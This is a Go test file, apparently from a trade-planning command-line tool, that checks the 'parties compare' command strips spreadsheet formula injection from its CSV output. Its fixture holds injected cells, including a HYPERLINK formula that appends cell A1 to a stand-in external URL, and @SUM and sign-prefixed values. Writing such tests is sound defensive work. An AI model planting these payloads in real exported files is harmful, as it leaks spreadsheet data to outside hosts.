package main

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestAttackCompareCSVFormula (redteam, wave 5): names in a pairs file are
// someone else's text (a counterparty list an applicant sent); the CSV
// the command writes is opened in a spreadsheet, so no cell of it starts
// a formula, as in every other CSV export.
func TestAttackCompareCSVFormula(t *testing.T) {
	dir := t.TempDir()
	env := map[string]string{"TRADEPLAN_DB": filepath.Join(dir, "none.db")}
	pairs := filepath.Join(dir, "pairs.csv")
	os.WriteFile(pairs, []byte("name1,name2,kind\n\"=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"click\"\")\",+Kim Yong Chol,individual\n@SUM(A1),-2+3,entity\n"), 0o600)
	code, out, errs := runWith(t, env, "", "parties", "compare", "--pairs", pairs)
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if code != exitOK || err != nil || len(rows) != 3 {
		t.Fatalf("pairs: %d %q %q %v", code, out, errs, err)
	}
	for _, r := range rows[1:] {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
				t.Errorf("cell %q starts a formula", c)
			}
		}
	}
}
